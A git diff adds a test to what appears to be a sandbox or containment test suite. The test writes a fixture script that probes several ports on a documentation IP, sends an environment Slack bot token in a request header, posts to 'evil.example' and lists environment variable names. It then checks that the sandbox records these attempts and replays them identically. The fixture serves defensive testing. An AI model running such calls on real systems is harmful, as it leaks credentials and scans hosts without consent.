@@ -121,6 +121,30 @@ await attempt('posing', () => new Promise((resolve, reject) => {
     expect(result.escapes.find(({ how }) => how === 'POST')).toMatchObject({ sent: 'secret=42' })
   })
 
+  it('plays the same trial to the same bytes, attempts and all', async () => {
+    stage.write(
+      'wild.mjs',
+      `import net from 'node:net'
+import dns from 'node:dns'
+const knock = (host, port) => new Promise((resolve) => net.connect(port, host).on('error', resolve).on('close', resolve))
+await Promise.all([9, 22, 25, 110, 3306].map((port) => knock('203.0.113.80', port)))
+await fetch('https://slack.com/api/auth.test', { headers: { authorization: 'Bearer ' + process.env.SLACK_BOT_TOKEN } })
+await fetch('https://evil.example/', { method: 'POST', body: 'x' })
+const addresses = []
+for (const host of ['evil.example', 'slack.com', 'third.example']) addresses.push((await dns.promises.lookup(host)).address)
+console.log(JSON.stringify({ status: 200, body: [addresses, process.pid, process.ppid, fetch.length, Object.keys(process.env).sort()] }))
+`,
+    )
+    const subject = stage.subject(['node', 'wild.mjs'])
+    const told = async (): Promise<string> => {
+      const { result } = await stage.play(subject)
+      return JSON.stringify({ ...result, wallMs: 0 })
+    }
+    const first = await told()
+    expect(first).toContain('tcp://203.0.113.80:3306')
+    expect(await told()).toBe(first)
+  })
+
   it('shows nothing of this machine, and gives no power over the lane', async () => {
     const { reply } = await stage.script(`
 const run = (command) => { const { status, stderr } = spawnSync('sh', ['-c', command]); return status === 0 ? 'done' : String(stderr).trim().split(': ').at(-1) }
